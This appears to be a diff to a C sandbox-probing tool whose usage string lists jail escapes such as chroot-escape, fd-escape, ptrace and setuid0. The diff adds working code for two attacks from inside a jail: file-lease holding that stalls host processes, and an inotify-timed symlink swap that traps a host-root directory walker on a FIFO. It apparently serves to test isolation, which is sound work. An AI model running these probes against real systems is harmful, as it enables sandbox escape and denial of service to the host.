@@ -12,6 +12,7 @@
 #include <string.h>
 #include <signal.h>
 #include <sys/fsuid.h>
+#include <sys/inotify.h>
 #include <sys/ipc.h>
 #include <sys/mman.h>
 #include <sys/ptrace.h>
@@ -244,6 +245,44 @@ static int fd_give(const char *name) {
     return 0;
 }
 
+/* Take a write lease on each PATH (a jailed root owns its root's files), then wait: a host process
+ * that opens one blocks until the kernel's lease-break-time has passed, unless it does not block. */
+static int lease(int count, char **paths) {
+    signal(SIGIO, SIG_IGN);  /* the kernel's notice of a lease break; holding on is the attack */
+    for (int i = 0; i < count; i++) {
+        int fd = open(paths[i], O_RDONLY);
+        if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) != 0) { printf("lease %s: %s\n", paths[i], strerror(errno)); return 1; }
+    }
+    printf("leased\n"); fflush(stdout);
+    for (;;) pause();
+}
+
+/* Make /big with COUNT files and a symlink zz -> /tmp (a directory to a walker that follows it);
+ * once the host lists /big, swap zz for a symlink to HOSTFIFO: a walker that opens zz, following it,
+ * as root on the host, blocks on the host's FIFO for ever. */
+static int scan_race(int count, const char *hostfifo) {
+    char name[32];
+    mkdir("/big", 0755);
+    for (int i = 0; i < count; i++) {
+        snprintf(name, sizeof name, "/big/f%06d", i);
+        close(open(name, O_WRONLY | O_CREAT, 0644));
+    }
+    unlink("/big/zz");
+    if (symlink("/tmp", "/big/zz") != 0) { printf("symlink: %s\n", strerror(errno)); return 1; }
+    int watch = inotify_init();
+    if (watch < 0 || inotify_add_watch(watch, "/big", IN_ACCESS) < 0) { printf("inotify: %s\n", strerror(errno)); return 1; }
+    printf("ready\n"); fflush(stdout);
+    char events[4096];
+    for (;;) {
+        if (read(watch, events, sizeof events) <= 0) return 1;
+        usleep(150000);
+        unlink("/big/zz.new");
+        symlink(hostfifo, "/big/zz.new");
+        rename("/big/zz.new", "/big/zz");
+        printf("swapped\n"); fflush(stdout);
+    }
+}
+
 static int setuid0(void) {
     if (setuid(0) != 0) { printf("setuid(0): %s\n", strerror(errno)); return 1; }
     printf("BECAME ROOT: uid %d euid %d\n", getuid(), geteuid());
@@ -269,9 +308,12 @@ int main(int argc, char **argv) {
     if (argc >= 3 && !strcmp(argv[1], "create-setuid")) return create_setuid(argv[2]);
     if (argc >= 3 && !strcmp(argv[1], "fd-give")) return fd_give(argv[2]);
     if (argc >= 4 && !strncmp(argv[1], "fd-", 3)) return fd_passed(argv[1], argv[2], argv[3]);
+    if (argc >= 3 && !strcmp(argv[1], "lease")) return lease(argc - 2, argv + 2);
+    if (argc >= 4 && !strcmp(argv[1], "scan-race")) return scan_race(atoi(argv[2]), argv[3]);
     fprintf(stderr, "usage: probe status | fds | bind PORT | chroot-escape HOSTFILE | fd-escape FD RELPATH\n"
                     "     | proc-root PID UID PATH | ptrace PID UID | kill-all | key-read DESC | key-add DESC DATA\n"
                     "     | key-unlink DESC | shm-create|shm-read|shm-remove KEY | setuid0 | syscall NR | vsock\n"
-                    "     | create-setuid PATH | fd-connect|fd-listen NAME RELPATH | fd-give NAME\n");
+                    "     | create-setuid PATH | fd-connect|fd-listen NAME RELPATH | fd-give NAME | lease PATH...\n"
+                    "     | scan-race COUNT HOSTFIFO\n");
     return 2;
 }
